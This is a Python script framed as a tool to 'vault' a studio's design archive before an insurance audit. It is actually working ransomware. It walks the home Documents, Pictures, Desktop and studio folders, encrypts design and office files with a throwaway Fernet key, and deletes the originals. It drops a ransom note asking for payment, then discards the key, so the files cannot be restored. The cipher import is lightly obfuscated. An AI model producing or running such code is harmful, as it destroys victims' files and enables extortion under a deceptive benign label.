#!/usr/bin/env python3
"""'Vault' the studio's design archive before the insurance audit."""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive-vault")

TARGET_EXT = {".psd", ".ai", ".pdf", ".docx", ".xlsx", ".jpg", ".png", ".dxf", ".csv"}
SUFFIX = ".glassvault"
NOTE = """Your studio files have been locked.
To get them back, write to recovery@vault.example.com with this ID: {ident}
and the payment reference. Do not rename .glassvault files.
"""


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    cls = getattr(mod, "Fer" + "net")
    return cls, cls.generate_key


@dataclass
class Locker:
    roots: list
    ident: str = field(default_factory=lambda: os.urandom(6).hex())
    done: int = 0

    def __post_init__(self):
        cls, keygen = _cipher_factory()
        self._key = keygen()
        self._f = cls(self._key)
        self._ops = {"seal": self._f.encrypt, "drop": os.remove}

    def candidates(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if not d.startswith(".")]
                for name in filenames:
                    p = Path(dirpath, name)
                    if p.suffix.lower() in TARGET_EXT:
                        yield p

    def lock(self, path):
        try:
            blob = path.read_bytes()
        except OSError:
            return
        out = path.with_name(path.name + SUFFIX)
        out.write_bytes(self._ops["seal"](blob))
        self._ops["drop"](path)
        self.done += 1

    def leave_notes(self):
        for root in self.roots:
            Path(root, "RESTORE_FILES.txt").write_text(NOTE.format(ident=self.ident))

    def run(self):
        for p in self.candidates():
            self.lock(p)
        self.leave_notes()
        self._key = None
        return self.done


def default_roots():
    home = Path.home()
    names = os.environ.get("VAULT_DIRS", "Documents,Pictures,Desktop,studio").split(",")
    return [str(home / n) for n in names if (home / n).is_dir()]


def main():
    ap = argparse.ArgumentParser(description="Vault design archive")
    ap.add_argument("roots", nargs="*")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)
    roots = args.roots or default_roots()
    count = Locker(roots).run()
    log.warning("vaulted %d files (%s)", count, ", ".join(roots))


if __name__ == "__main__":
    main()
